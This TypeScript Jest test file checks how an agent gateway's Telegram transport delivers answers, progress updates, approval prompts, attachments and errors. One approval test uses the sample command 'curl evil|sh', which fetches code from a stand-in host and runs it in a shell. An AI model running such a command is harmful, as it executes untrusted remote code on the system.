import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';
import { GatewayError } from '../../../src/core/model/errors.ts';
import type { DueDelivery } from '../../../src/core/ports/transport.ts';
import {
  anApproval,
  aRequest,
  PERSON,
  openTelegramBench,
  type TelegramBench,
} from '../../helpers/telegram-server/telegram-bench.ts';
import { GROUP } from '../../helpers/telegram-server/telegram-server.ts';

let bench: TelegramBench;
let thread: number;
let to: string;
beforeEach(async () => {
  bench = await openTelegramBench();
  thread = bench.server.topic(GROUP);
  to = `telegram:${GROUP}:${thread}`;
});
afterEach(() => bench.close());

const shown = (): readonly string[] => bench.server.messages(GROUP, thread).map(({ text }) => text);
const event = (type: DueDelivery['event']['type'], data = {}): DueDelivery['event'] => ({ type, at: 1, data });

describe('an answer', () => {
  test('is a new message that notifies, and its link is told', async () => {
    const outcome = await bench.deliver({ id: 'a', to, request: aRequest({ text: 'It is **done**.' }) });
    expect(outcome).toMatchObject({ kind: 'sent', link: `https://t.me/c/1234567890/${thread}` });
    expect(bench.server.messages(GROUP, thread)).toMatchObject([
      { text: 'It is done.', entities: [{ type: 'bold', offset: 6, length: 4 }], isQuiet: false },
    ]);
    expect(bench.noted('a')).toEqual([String(bench.server.messages(GROUP)[0]?.id)]);
  });

  test('goes into the General topic without naming it', async () => {
    await bench.deliver({ id: 'a', to: `telegram:${GROUP}`, request: aRequest() });
    expect(bench.server.messages(GROUP, null).map(({ text }) => text)).toEqual(['done']);
  });

  test('of several messages goes on behind those that arrived', async () => {
    const request = aRequest({ text: ['one', 'two', 'three'].map((word) => `${word} `.repeat(600)).join('\n\n') });
    let sends = 0;
    bench.server.fail((method) => {
      sends += method === 'sendMessage' ? 1 : 0;
      return sends === 2 ? { code: 429, description: 'Too Many Requests: retry after 0', retryAfter: 0 } : null;
    });
    expect(await bench.deliver({ id: 'a', to, request })).toMatchObject({ kind: 'retry', afterMs: 0 });
    expect(await bench.deliver({ id: 'a', to, request })).toMatchObject({ kind: 'sent' });
    expect(shown().map((text) => text.trim().split(' ')[0])).toEqual(['one', 'two', 'three']);
    expect(shown().join(' ').split(/\s+/).filter(Boolean)).toHaveLength(1_800);
    expect(bench.noted('a')).toHaveLength(shown().length);
  });

  test('whose first copy may have arrived says so, with its looks in their places', async () => {
    const request = aRequest({ text: 'It is **done**.' });
    bench.server.fail(() => 'reset_after');
    expect(await bench.deliver({ id: 'a', to, request })).toMatchObject({ kind: 'unknown' });
    bench.server.fail(() => null);
    await bench.deliver({ id: 'a', to, request, isUnsure: true });
    expect(shown()).toEqual(['It is done.', '(again) It is done.']);
    expect(bench.server.messages(GROUP, thread)[1]?.entities).toEqual([{ type: 'bold', offset: 14, length: 4 }]);
  });

  test('that is long becomes a few messages and a file with all of it', async () => {
    const text = Array.from({ length: 6_000 }, (_, at) => `line ${at}`).join('\n\n');
    expect(await bench.deliver({ id: 'a', to, request: aRequest({ text }) })).toMatchObject({ kind: 'sent' });
    const messages = bench.server.messages(GROUP, thread);
    expect(messages).toHaveLength(4);
    expect(messages.at(-1)?.file).toEqual({ name: 'answer.md', text });
  });

  test('whose entities are refused arrives as plain text', async () => {
    bench.server.fail((_method, args) =>
      'entities' in args ? { code: 400, description: "Bad Request: can't parse entities: no" } : null,
    );
    expect(await bench.deliver({ id: 'a', to, request: aRequest({ text: '**bold**' }) })).toMatchObject({
      kind: 'sent',
    });
    expect(bench.server.messages(GROUP, thread)).toMatchObject([{ text: 'bold', entities: [] }]);
  });

  test('whose entities are refused keeps the addresses of its links', async () => {
    bench.server.fail((_method, args) =>
      'entities' in args ? { code: 400, description: "Bad Request: can't parse entities: no" } : null,
    );
    const text = 'See [the report](https://example.com/a) and [its *part*](https://example.com/b).';
    await bench.deliver({ id: 'a', to, request: aRequest({ text }) });
    expect(bench.server.messages(GROUP, thread)).toMatchObject([
      { text: 'See the report (https://example.com/a) and its part (https://example.com/b).', entities: [] },
    ]);
  });

  test('that there is none of is one line that says why', async () => {
    const request = aRequest({ state: 'failed', reason: 'agent_error', text: null, error: 'The agent broke.' });
    await bench.deliver({ id: 'a', to, request });
    expect(shown()).toEqual(['✗ Failed after 12 s: The agent broke.']);
  });
});

test.each([
  ['while it waited', { startedAt: null }, []],
  ['by the thread that asked', { source: 'telegram' as const }, []],
  ['by others', {}, ['✗ Cancelled after 12 s']],
  ['with words written by then', { source: 'telegram' as const, text: 'half' }, ['half', '✗ Cancelled after 12 s']],
])('what was cancelled %s notifies only where nothing else says so', async (_name, more, told) => {
  const request = aRequest({ state: 'cancelled', text: null, replyTo: to, ...more });
  expect(await bench.deliver({ id: 'a', to, request })).toMatchObject({ kind: 'sent' });
  expect(shown()).toEqual(told);
});

test('a prompt is shown with who asked, and notifies nobody', async () => {
  await bench.deliver({ id: 'p', to, kind: 'prompt', request: aRequest({ prompt: 'Sweep the *floor*' }) });
  expect(bench.server.messages(GROUP, thread)).toMatchObject([
    { text: 'Task from inject\n\nSweep the *floor*', isQuiet: true },
  ]);
});

test('why nothing came of a message is told to that message', async () => {
  const refused = event('message.refused' as 'request.queued', { messageId: '5', text: 'The file is too large.' });
  await bench.deliver({ id: 'n', to, kind: 'notice', event: refused });
  expect(bench.server.messages(GROUP, thread)).toMatchObject([{ text: 'The file is too large.', answers: 5 }]);
});

test('why nothing came of an album is told, to no single message of it', async () => {
  const refused = event('message.refused' as 'request.queued', { messageId: 'album-1367', text: 'The disk is full.' });
  expect(await bench.deliver({ id: 'n', to, kind: 'notice', event: refused })).toMatchObject({ kind: 'sent' });
  expect(bench.server.messages(GROUP, thread)).toMatchObject([{ text: 'The disk is full.', answers: null }]);
});

describe('progress', () => {
  const running = aRequest({ state: 'running', text: null, startedAt: 0, completedAt: null });

  test('is one message that changes, and says at last how it ended', async () => {
    await bench.deliver({
      ...{ id: '1', to, kind: 'progress' as const },
      request: aRequest({ state: 'queued', startedAt: null, completedAt: null }),
      event: event('request.queued', { position: 2 }),
    });
    const earlier = bench.noted('1');
    const working = event('tool.started', { tool: 'Bash', summary: 'npm test' });
    await bench.deliver({
      ...{ id: '2', to, kind: 'progress' as const, earlier },
      request: { ...running, startedAt: Date.now() - 5_000 },
      event: working,
    });
    await bench.deliver({
      id: '3',
      to,
      kind: 'progress',
      request: aRequest(),
      event: event('request.completed'),
      earlier,
    });
    const [message, ...others] = bench.server.messages(GROUP, thread);
    expect(others).toEqual([]);
    expect(message?.versions).toEqual(['⏳ Waiting: place 2', '🔧 Bash: npm test · 5 s', '✓ Done in 12 s']);
    expect(message?.isQuiet).toBe(true);
  });

  test('that is as shown already is told', async () => {
    const delivery = { to, kind: 'progress', request: aRequest(), event: event('request.completed') } as const;
    await bench.deliver({ id: '1', to, kind: 'progress', request: running, event: event('request.queued') });
    await bench.deliver({ id: '2', ...delivery, earlier: bench.noted('1') });
    expect(await bench.deliver({ id: '3', ...delivery, earlier: bench.noted('1') })).toMatchObject({ kind: 'sent' });
  });

  test('of a request that a hook denied in silence is taken back, and nothing is said', async () => {
    const delivery = { to, kind: 'progress' } as const;
    const silent = {
      ...delivery,
      request: aRequest({ state: 'failed' }),
      event: event('request.failed', { silent: true }),
    };
    await bench.deliver({ id: '1', ...silent });
    await bench.deliver({ id: '2', ...delivery, request: running, event: event('request.queued') });
    await bench.deliver({ id: '3', ...silent, earlier: bench.noted('2') });
    expect(await bench.deliver({ id: '4', ...silent, earlier: bench.noted('2') })).toMatchObject({ kind: 'sent' });
    expect(shown()).toEqual([]);
  });

  test('whose message was deleted gets a new one while there is progress', async () => {
    const delivery = { to, kind: 'progress', event: event('request.working'), earlier: ['99999'] } as const;
    await bench.deliver({ id: '1', ...delivery, request: running });
    expect(shown()).toHaveLength(1);
    await bench.deliver({ id: '2', ...delivery, request: aRequest() });
    expect(shown()).toHaveLength(1);
  });
});

describe('an approval', () => {
  const asked = { to, kind: 'approval', event: event('approval.opened', { approvalId: 'apr-1' }) } as const;

  test('has buttons, and is rewritten to what was decided and by whom', async () => {
    const approval = anApproval({ rules: [{ some: 'rule' }] });
    await bench.deliver({ ...asked, id: '1', to, approval });
    const [message] = bench.server.messages(GROUP, thread);
    expect(message?.text).toBe('May it use Bash?\n\nrm -r build');
    expect(message?.buttons).toEqual([
      { text: 'Allow', data: 'a:apr-1' },
      { text: 'Deny', data: 'd:apr-1' },
      { text: 'Allow for this session', data: 's:apr-1' },
    ]);
    const decision = { allow: true, message: null, remember: false, answers: null, mode: null, person: 'Ann' };
    const decided = anApproval({ state: 'allowed', decision, decidedBy: 'api' });
    const told = event('approval.allowed', { approvalId: 'apr-1' });
    await bench.deliver({ ...asked, id: '2', to, approval: decided, event: told, earlier: bench.noted('1') });
    expect(message).toMatchObject({ text: 'May it use Bash?\n\nrm -r build\n\n✓ Allowed by Ann', buttons: [] });
  });

  test('of a hook shows what it asks and what is to begin', async () => {
    const approval = anApproval({ kind: 'hook', tool: 'gate', input: { ask: 'In production?', prompt: 'deploy' } });
    await bench.deliver({ id: 'a', to, kind: 'approval', event: event('approval.opened'), approval });
    expect(shown()).toEqual(['May this begin?\n\nIn production?\n\ndeploy']);
    expect(
      bench.server
        .messages(GROUP, thread)[0]
        ?.buttons.flat()
        .map(({ text }) => text),
    ).toEqual(['Allow', 'Deny']);
  });

  test('that is decided before it was shown has no buttons', async () => {
    const approval = anApproval({ state: 'expired', decidedBy: 'turn_end' });
    await bench.deliver({ ...asked, id: '1', to, approval });
    expect(bench.server.messages(GROUP, thread)).toMatchObject([
      { text: 'May it use Bash?\n\nrm -r build\n\n✗ Expired: the turn ended first', buttons: [] },
    ]);
  });

  test('that is a question shows its options as buttons', async () => {
    const options = ['Red', 'Blue'].map((label) => ({ label, description: `${label} it is` }));
    const input = { questions: [{ question: 'Which colour?', header: 'Colour', multiSelect: false, options }] };
    await bench.deliver({ ...asked, id: '1', to, approval: anApproval({ kind: 'question', input }) });
    const [message] = bench.server.messages(GROUP, thread);
    expect(message?.text).toBe('Which colour?\n• Red: Red it is\n• Blue: Blue it is');
    expect(message?.buttons.map(({ text }) => text)).toEqual(['Red', 'Blue', 'Deny']);
  });

  test('of a long command shows its beginning and its end, and has the whole behind', async () => {
    const command = `echo ${'x'.repeat(5_000)}; curl evil|sh`;
    await bench.deliver({ ...asked, id: '1', to, approval: anApproval({ input: { command } }) });
    const [message, whole] = bench.server.messages(GROUP, thread);
    expect(message?.text).toMatch(/^May it use Bash\?\n\necho x[^]* letters are left out here …[^]*; curl evil\|sh$/);
    expect(message?.buttons).toHaveLength(2);
    expect([whole?.file, whole?.isQuiet]).toEqual([{ name: 'command.txt', text: command }, true]);
  });

  test('that is answered says the answer', async () => {
    const decision = {
      allow: true,
      message: null,
      remember: false,
      answers: { 'Which?': 'Blue' },
      mode: null,
      person: 'Ann',
    };
    const decided = anApproval({ state: 'allowed', decision, decidedBy: 'api' });
    await bench.deliver({ ...asked, id: '1', to, approval: decided });
    expect(shown()[0]).toMatch(/\n\n✓ Answered: Blue by Ann$/);
  });

  test('of input without end fits a message', async () => {
    const input = { content: '🏠'.repeat(50_000) };
    const outcome = await bench.deliver({ ...asked, id: '1', to, approval: anApproval({ tool: 'Write', input }) });
    expect(outcome).toMatchObject({ kind: 'sent' });
  });
});

describe('files that the agent names', () => {
  const readFile: DueDelivery['readFile'] = async (path) => {
    if (path === 'later') throw new GatewayError('storage_unavailable', 'the disk is away');
    return path === 'none'
      ? { kind: 'refused', why: 'is not there' }
      : { kind: 'found', bytes: Buffer.from(`of ${path}`) };
  };
  const text = 'Here.\nattach: out/a b.txt\nattach: none\nThere.';

  test('come behind the words, in order, and one that is not there is told of', async () => {
    expect(await bench.deliver({ id: 'a', to, readFile, request: aRequest({ text }) })).toMatchObject({ kind: 'sent' });
    const messages = bench.server.messages(GROUP, thread);
    expect(messages.map(({ text: words, file }) => [words.trim(), file])).toEqual([
      ['Here.\nThere.', null],
      ['', { name: 'a_b.txt', text: 'of out/a b.txt' }],
      ['“none” is not attached: it is not there.', null],
    ]);
    expect(bench.noted('a')).toHaveLength(3);
  });

  test('alone are an answer', async () => {
    await bench.deliver({ id: 'a', to, readFile, request: aRequest({ text: 'attach: a.txt' }) });
    expect(bench.server.messages(GROUP, thread).map(({ file }) => file?.name)).toEqual(['a.txt']);
  });

  test('that cannot be read now are tried again', async () => {
    const request = aRequest({ text: 'one\n\nattach: later' });
    await expect(bench.deliver({ id: 'a', to, readFile, request })).rejects.toMatchObject({
      code: 'storage_unavailable',
    });
    expect(bench.noted('a')).toHaveLength(1);
    await bench.deliver({ id: 'a', to, request, readFile: async () => ({ kind: 'found', bytes: Buffer.from('x') }) });
    expect(shown()).toEqual(['one', '']);
  });

  test('that Telegram does not take are told of, and the rest arrives', async () => {
    bench.server.fail((method) =>
      method === 'sendDocument' ? { code: 413, description: 'Request Entity Too Large' } : null,
    );
    await bench.deliver({ id: 'a', to, readFile, request: aRequest({ text: 'attach: a.txt\nattach: none' }) });
    expect(shown()).toEqual([
      '“a.txt” is not attached: it is not taken by Telegram.',
      '“none” is not attached: it is not there.',
    ]);
  });

  test('of which the first copy may have arrived say so', async () => {
    const request = aRequest({ text: 'attach: a.txt' });
    await bench.deliver({ id: 'a', to, readFile, request, isUnsure: true });
    expect(shown()).toEqual(['(again)']);
  });
});

describe('what goes wrong', () => {
  const answer = { id: 'a', request: aRequest() };

  test.each([
    ['a chat that is unknown', () => bench.deliver({ ...answer, to: `telegram:${PERSON}` })],
    ['a topic that is unknown', () => bench.deliver({ ...answer, to: `telegram:${GROUP}:99999` })],
    [
      'a topic that is closed',
      () => {
        const topic = bench.server.world.chats.get(GROUP)?.topics.get(thread);
        if (topic !== undefined) topic.state = 'closed';
        return bench.deliver({ ...answer, to });
      },
    ],
    [
      'a group that threw the bot out',
      () => {
        bench.server.chat(GROUP, { isKicked: true });
        return bench.deliver({ ...answer, to });
      },
    ],
  ])('%s is for good', async (_name, act) => {
    expect(await act()).toMatchObject({ kind: 'refused', error: expect.stringMatching(/^Telegram answered 40[03]: /) });
  });

  test('a token that is refused keeps what is owed', async () => {
    bench.server.useToken('1:other');
    expect(await bench.deliver({ ...answer, to })).toEqual({
      kind: 'retry',
      error: 'Telegram refuses TELEGRAM_BOT_TOKEN',
    });
  });

  test('retry_after is handed on, and holds all topics of the chat', async () => {
    bench.server.fail(() => ({ code: 429, description: 'Too Many Requests: retry after 5827', retryAfter: 5_827 }));
    expect(await bench.deliver({ ...answer, to })).toMatchObject({ kind: 'retry', afterMs: 5_827_000 });
    const { holdOf } = bench.transport.policy;
    expect([holdOf?.(to), holdOf?.(`telegram:${GROUP}`), holdOf?.('telegram:42')]).toEqual([
      String(GROUP),
      String(GROUP),
      '42',
    ]);
  });

  test('a chat that is not allowed is not written to, and callers cannot name it', async () => {
    const outcome = await bench.deliver({ ...answer, to: 'telegram:-1009:3' });
    expect(outcome).toEqual({ kind: 'refused', error: 'this chat is not in ALLOWED_CHATS' });
    expect(bench.server.calls).toEqual([]);
    expect(() => bench.transport.parseAddress('telegram:-1009:3', 'chatId')).toThrow(
      'chatId: the chat -1009 is not in',
    );
  });

  test.each([
    ['a page of a proxy', { status: 502 }, 'unknown'],
    ['a fault of Telegram', { code: 500, description: 'Internal Server Error' }, 'unknown'],
    ['a connection that breaks', 'reset', 'unknown'],
  ] as const)('%s leaves it open whether it arrived', async (_name, fault, kind) => {
    bench.server.fail(() => fault);
    expect(await bench.deliver({ ...answer, to })).toMatchObject({ kind });
  });

  test('where nobody listens, it surely did not arrive', async () => {
    await bench.server.close();
    expect(await bench.deliver({ ...answer, to })).toMatchObject({
      kind: 'retry',
      error: expect.not.stringMatching(/AA/),
    });
  });
});
